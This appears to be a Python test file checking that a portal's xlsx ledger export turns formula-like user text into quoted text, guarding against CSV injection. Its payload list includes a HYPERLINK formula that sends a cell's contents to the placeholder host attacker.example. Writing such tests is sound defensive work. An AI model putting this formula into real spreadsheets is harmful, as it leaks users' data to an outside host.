"""The shared ledger writer: user text never becomes a live formula (OWASP CSV injection)."""

import io

import pytest

from huanghe_portal.ledgers import Column, export_xlsx, read_table, text

from .helpers import assert_no_live_formula, text_cell

COLUMNS = [Column("姓名", "name", text(200)), Column("人数", "count", required=False)]
PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?d="&E3,"点击查看")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_starting_like_a_formula_is_written_as_quoted_text(payload):
    content = export_xlsx(COLUMNS, [{"name": payload, "count": 3}], title="台账")

    assert_no_live_formula(content, payload)


def test_ordinary_values_keep_their_types_and_the_export_reimports_as_typed():
    content = export_xlsx(
        COLUMNS, [{"name": "张三", "count": 3}, {"name": "=1+1", "count": None}], title="台账"
    )

    assert text_cell(content, "张三").quotePrefix is False
    assert text_cell(content, 3).data_type == "n"
    rows = read_table(io.BytesIO(content), COLUMNS)
    assert [r["name"] for r in rows] == ["张三", "=1+1"]
